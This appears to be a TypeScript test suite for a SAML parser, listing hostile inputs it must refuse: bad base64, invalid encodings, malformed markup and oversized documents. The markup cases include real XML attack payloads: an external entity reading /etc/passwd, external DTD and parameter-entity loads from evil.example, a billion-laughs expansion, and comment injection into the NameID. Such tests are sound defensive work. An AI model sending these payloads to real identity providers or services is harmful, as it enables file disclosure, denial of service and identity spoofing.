import type { ReasonCode } from '../../../src/federation/reasons.ts';
import { contextWith } from '../support/context.ts';
import { PERSON } from '../support/message.ts';
import { encode, type HostileCase, honest, refused, swap } from './hostile.ts';

/** Fields and messages that are not a message, not XML, too large, or XML with constructs that SAML does not need. */
export function formCases(): HostileCase[] {
  return [...fields(), ...encodings(), ...markup(), ...names(), ...limits()];
}

function fields(): HostileCase[] {
  const field = encode(honest());
  const forms: [string, string, ReasonCode][] = [
    ['an empty field', '', 'base64_invalid'],
    ['spaces', '   ', 'base64_invalid'],
    ['not base64', '<samlp:Response/>', 'base64_invalid'],
    ['base64 with letters of base64url', `${field.slice(0, 20)}-_${field.slice(22)}`, 'base64_invalid'],
    ['truncated base64', field.slice(0, field.length - 5), 'base64_invalid'],
    ['base64 with more after its end', `${encode('<a/>')}====`, 'base64_invalid'],
    ['two pieces of base64', `${encode('<a')}${encode('/>x')}=`, 'base64_invalid'],
    ['base64 with percent signs', field.replace('A', '%41'), 'base64_invalid'],
    ['base64 with unused bits set', `${encode('<a/>').slice(0, -3)}h==`, 'base64_invalid'],
    ['base64 with a null byte', `${field.slice(0, 40)}\0${field.slice(40)}`, 'base64_invalid'],
    ['a data URI', `data:text/xml;base64,${field}`, 'base64_invalid'],
    ['20 MB', 'A'.repeat(20_000_000), 'message_too_large'],
    ['300 KB of base64', encode(`<a>${'b'.repeat(225_000 + 60_000)}</a>`), 'message_too_large'],
    [
      'deflated, as in another binding',
      'fZFfa8IwFMXf9ynCffdPWxUWrOAmY4KOou0e9jJicqsBm3S5ieD89EurDpzg6733/M49J3Q8nB1qdkBP2poU+t0eMDTSKm02KaxWb50xeLLCKFFbgykckWAyGY9I1FXDpwHv7AJ/A1JgU0TyIlp0ZQ2FGn2J/qAlrhbzFLYhNMSTpLaWlC67EesfVXYqXHuSrO6Sz0p6S7YK1kRV1pqLeg==',
      'xml_malformed',
    ],
  ];
  return forms.map(([name, text, reason]) => ({ name, field: text, context: contextWith(), reason }));
}

function encodings(): HostileCase[] {
  const xml = honest();
  const latin = Buffer.from(swap(xml, 'Staff', 'Stäff'), 'latin1');
  return [
    refused('UTF-16', Buffer.from(`\ufeff${xml}`, 'utf16le'), 'xml_malformed'),
    refused('UTF-16 without a byte order mark', Buffer.from(xml, 'utf16le'), 'xml_malformed'),
    refused('Latin-1', latin, 'xml_malformed'),
    refused('Latin-1, declared', `<?xml version="1.0" encoding="ISO-8859-1"?>${xml}`, 'xml_malformed'),
    refused('UTF-7, declared', `<?xml version="1.0" encoding="UTF-7"?>${xml}`, 'xml_malformed'),
    refused('UTF-16, declared', `<?xml version="1.0" encoding="UTF-16"?>${xml}`, 'xml_malformed'),
    refused(
      'an overlong encoding',
      Buffer.concat([Buffer.from('<a>'), Buffer.from([0xc0, 0xbc]), Buffer.from('</a>')]),
      'xml_malformed',
    ),
    refused(
      'a lone surrogate',
      Buffer.concat([Buffer.from('<a>'), Buffer.from([0xed, 0xa0, 0x80]), Buffer.from('</a>')]),
      'xml_malformed',
    ),
    refused(
      'a code point outside Unicode',
      Buffer.concat([Buffer.from('<a>'), Buffer.from([0xf5, 0x80, 0x80, 0x80]), Buffer.from('</a>')]),
      'xml_malformed',
    ),
    refused('two byte order marks', `\ufeff\ufeff${xml}`, 'xml_malformed'),
    refused('XML 1.1', `<?xml version="1.1"?>${xml}`, 'xml_malformed'),
    refused('a declaration without a version', `<?xml encoding="UTF-8"?>${xml}`, 'xml_malformed'),
    refused('a declaration in upper case', `<?XML VERSION="1.0"?>${xml}`, 'xml_forbidden'),
    refused('a declaration after a space', ` <?xml version="1.0"?>${xml}`, 'xml_forbidden'),
    refused('two declarations', `<?xml version="1.0"?><?xml version="1.0"?>${xml}`, 'xml_forbidden'),
    refused('a null byte in the NameID', swap(xml, PERSON, `${PERSON}\0`), 'xml_malformed'),
    refused('a null byte after the root', `${xml}\0`, 'xml_malformed'),
    refused('a reference to a null byte', swap(xml, PERSON, `${PERSON}&#0;`), 'xml_malformed'),
    refused('a reference to a surrogate', swap(xml, PERSON, `${PERSON}&#xD800;`), 'xml_malformed'),
    refused('a reference outside Unicode', swap(xml, PERSON, `${PERSON}&#x110000;`), 'xml_malformed'),
    refused('a reference of a hundred digits', swap(xml, PERSON, `&#${'0'.repeat(98)}65;`), 'xml_malformed'),
    refused('a control character', swap(xml, PERSON, `${PERSON}\x08`), 'xml_malformed'),
    refused('a non-character', swap(xml, PERSON, `${PERSON}\uffff`), 'xml_malformed'),
  ];
}

function markup(): HostileCase[] {
  const xml = honest();
  const doctype = (content: string) => `<!DOCTYPE samlp:Response ${content}>${xml}`;
  const forms: [string, string, ReasonCode][] = [
    ['DOCTYPE', doctype(''), 'xml_forbidden'],
    ['DOCTYPE after a declaration', `<?xml version="1.0"?>\n${doctype('')}`, 'xml_forbidden'],
    ['DOCTYPE in lower case', doctype('').replace('DOCTYPE', 'doctype'), 'xml_forbidden'],
    ['an external DTD', doctype('SYSTEM "https://evil.example/x.dtd"'), 'xml_forbidden'],
    [
      'an external entity',
      doctype('[<!ENTITY x SYSTEM "file:///etc/passwd">]').replace(PERSON, '&x;'),
      'xml_forbidden',
    ],
    ['a parameter entity', doctype('[<!ENTITY % x SYSTEM "https://evil.example/x">%x;]'), 'xml_forbidden'],
    [
      'a billion laughs',
      doctype(
        `[<!ENTITY a "lol">${['b', 'c', 'd', 'e'].map((name, at) => `<!ENTITY ${name} "${`&${'abcd'[at]};`.repeat(10)}">`).join('')}]`,
      ).replace(PERSON, '&e;'),
      'xml_forbidden',
    ],
    ['a default ID attribute', doctype('[<!ATTLIST saml:Assertion ID ID "_assertion0001">]'), 'xml_forbidden'],
    ['an attribute declared as an ID', doctype('[<!ATTLIST saml:NameID Format ID #IMPLIED>]'), 'xml_forbidden'],
    ['a conditional section', doctype('[<![INCLUDE[<!ENTITY x "y">]]>]'), 'xml_forbidden'],
    ['DOCTYPE inside the message', swap(xml, '<saml:Subject>', '<!DOCTYPE a><saml:Subject>'), 'xml_forbidden'],
    ['an undeclared entity', swap(xml, PERSON, '&person;'), 'xml_malformed'],
    ['an entity of HTML', swap(xml, PERSON, '&nbsp;'), 'xml_malformed'],
    ['a bare ampersand', swap(xml, PERSON, 'ada & co'), 'xml_malformed'],
    ['a processing instruction in the NameID', swap(xml, PERSON, `ada<?x?>@acme.com`), 'xml_forbidden'],
    ['a processing instruction before the root', `<?x y?>${xml}`, 'xml_forbidden'],
    ['a processing instruction after the root', `${xml}<?x y?>`, 'xml_malformed'],
    ['a processing instruction between elements', swap(xml, '<saml:Subject>', '<?x?><saml:Subject>'), 'xml_forbidden'],
    ['a stylesheet', `<?xml-stylesheet href="https://evil.example/x.xsl"?>${xml}`, 'xml_forbidden'],
    ['a comment before the root', `<!-- x -->${xml}`, 'xml_forbidden'],
    ['a comment after the root', `${xml}<!-- x -->`, 'xml_malformed'],
    ['a comment in the NameID', swap(xml, PERSON, 'ada@acme.com<!-- x -->.evil.example'), 'xml_forbidden'],
    ['a comment in the Issuer', swap(xml, 'https://idp', '<!---->https://idp'), 'xml_forbidden'],
    ['a comment in the Audience', swap(xml, '</saml:Audience>', '<!---->.x</saml:Audience>'), 'xml_forbidden'],
    ['a comment in an AttributeValue', swap(xml, 'Staff', 'Sta<!---->ff'), 'xml_forbidden'],
    ['a comment with two hyphens', swap(xml, '<saml:Subject>', '<!-- -- --><saml:Subject>'), 'xml_malformed'],
    ['an unclosed comment', swap(xml, '<saml:Subject>', '<!-- <saml:Subject>'), 'xml_malformed'],
    ['CDATA in an AttributeValue', swap(xml, 'Staff', '<![CDATA[Staff]]>'), 'xml_forbidden'],
    ['CDATA with a tag', swap(xml, PERSON, '<![CDATA[</saml:NameID>]]>'), 'xml_forbidden'],
    [']]> in a text', swap(xml, PERSON, 'ada]]>'), 'xml_malformed'],
    ['text before the root', `x${xml}`, 'xml_malformed'],
    ['text after the root', `${xml}x`, 'xml_malformed'],
    ['two roots', `${xml}<a/>`, 'xml_malformed'],
    ['the message twice', xml + xml, 'xml_malformed'],
    ['a part of the message', xml.slice(0, 900), 'xml_malformed'],
    ['only a declaration', '<?xml version="1.0"?>', 'xml_malformed'],
    ['HTML', '<html><body><p>Log in</body></html>', 'xml_malformed'],
    ['JSON', '{"user":"ada"}', 'xml_malformed'],
    ['an empty root', '<>', 'xml_malformed'],
    ['a Response in another namespace', '<Response xmlns="urn:example:x"/>', 'response_malformed'],
  ];
  return forms.map(([name, text, reason]) => refused(name, text, reason));
}

function names(): HostileCase[] {
  const xml = honest();
  const put = (what: string) => swap(xml, '<saml:Subject>', `${what}<saml:Subject>`);
  const forms: [string, string][] = [
    ['a repeated attribute', put('<a b="1" b="2"/>')],
    ['a repeated attribute by namespace', put('<a xmlns:x="urn:x" xmlns:y="urn:x" x:b="1" y:b="2"/>')],
    ['a repeated ID', swap(xml, ' ID="_assertion0001"', ' ID="_evil" ID="_assertion0001"')],
    ['a prefix declared twice', put('<a xmlns:x="urn:x" xmlns:x="urn:y"/>')],
    ['an undeclared prefix', put('<x:a/>')],
    ['an attribute with an undeclared prefix', put('<a x:b="1"/>')],
    ['a prefix that is undeclared again', put('<a xmlns:x="urn:x"><b xmlns:x=""/></a>')],
    ['the prefix xml for another namespace', put('<a xmlns:xml="urn:x"/>')],
    ['another prefix for the namespace of xml', put('<a xmlns:x="http://www.w3.org/XML/1998/namespace"/>')],
    ['the prefix xmlns declared', put('<a xmlns:xmlns="urn:x"/>')],
    ['a prefix for the namespace of xmlns', put('<a xmlns:x="http://www.w3.org/2000/xmlns/"/>')],
    ['an element with the prefix xmlns', put('<xmlns:a/>')],
    ['a relative namespace name', put('<a xmlns:x="relative"/>')],
    ['a relative default namespace', put('<a xmlns="../x"/>')],
    ['a namespace name outside ASCII', put('<a xmlns:x="urn:ä"/>')],
    ['a name with two colons', put('<a:b:c xmlns:a="urn:x"/>')],
    ['a name that starts with a colon', put('<:a/>')],
    ['a name that ends with a colon', put('<a: xmlns:a="urn:x"/>')],
    ['a name that starts with a digit', put('<1a/>')],
    ['a name outside ASCII', put('<ä/>')],
    ['an end tag with another name', put('<a></b>')],
    ['an end tag with a longer name', put('<a></ab>')],
    ['an end tag with another prefix', put('<x:a xmlns:x="urn:x" xmlns:y="urn:x"></y:a>')],
    ['overlapping tags', put('<a><b></a></b>')],
    ['an end tag with an attribute', put('<a></a b="1">')],
    ['an unclosed element', put('<a>')],
    ['an additional end tag', `${xml}</samlp:Response>`],
    ['an attribute without quotes', put('<a b=1/>')],
    ['an attribute without a value', put('<a b/>')],
    ['different quotes', put('<a b="1\'/>')],
    ['< in an attribute', put('<a b="<"/>')],
    ['no space between attributes', put('<a b="1"c="2"/>')],
    ['a space before the name', put('< a/>')],
    ['a space inside />', put('<a / >')],
    ['an entity in an attribute', put('<a b="&x;"/>')],
  ];
  return forms.map(([name, text]) => refused(name, text, 'xml_malformed'));
}

function limits(): HostileCase[] {
  const wrap = (what: string) =>
    `<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol">${what}</samlp:Response>`;
  const many = (count: number, each: (at: number) => string) =>
    Array.from({ length: count }, (_, at) => each(at)).join('');
  return [
    refused('1,000 attributes', wrap(`<a${many(1000, (at) => ` b${at}=""`)}/>`), 'xml_limit'),
    refused('100,000 attributes', wrap(`<a${many(100_000, (at) => ` b${at}=""`)}/>`), 'message_too_large'),
    refused('20,000 attributes', wrap(`<a${many(20_000, (at) => ` b${at}=""`)}/>`), 'xml_limit'),
    refused('33 namespaces on one element', wrap(`<a${many(33, (at) => ` xmlns:b${at}="urn:${at}"`)}/>`), 'xml_limit'),
    refused(
      '70 namespaces over ten levels',
      wrap(`${many(10, (at) => `<a${many(7, (other) => ` xmlns:b${at}-${other}="urn:x"`)}>`)}${'</a>'.repeat(10)}`),
      'xml_limit',
    ),
    refused('65 levels', wrap(`${'<a>'.repeat(65)}${'</a>'.repeat(65)}`), 'xml_limit'),
    refused('30,000 levels', wrap(`${'<a>'.repeat(30_000)}${'</a>'.repeat(30_000)}`), 'xml_limit'),
    refused('30,000 unclosed levels', '<a>'.repeat(30_000), 'xml_limit'),
    refused('100,000 levels', '<a>'.repeat(100_000), 'message_too_large'),
    refused('30,000 elements', wrap('<a/>'.repeat(30_000)), 'xml_limit'),
    refused('20,001 comments', wrap('<!---->'.repeat(20_001)), 'xml_limit'),
    refused('a text of 200,001 characters', wrap('a'.repeat(200_001)), 'xml_limit'),
    refused('an attribute of 16,385 characters', wrap(`<a b="${'c'.repeat(16_385)}"/>`), 'xml_limit'),
    refused(
      '20,000 elements in the signed Assertion',
      swap(honest(), '<saml:Subject>', `${'<a/>'.repeat(20_000)}<saml:Subject>`),
      'xml_limit',
    ),
    refused('more than 256 KB', wrap(' '.repeat(256 * 1024)), 'message_too_large'),
    refused('50,000 references', wrap('&amp;'.repeat(50_000)), 'xml_limit'),
    refused('ampersands', wrap(`<a>${'&'.repeat(100_000)}</a>`), 'xml_malformed'),
    refused('angle brackets', '<'.repeat(200_000), 'xml_malformed'),
    refused('an unclosed quote', wrap(`<a b="${'c'.repeat(100)}`), 'xml_malformed'),
  ];
}
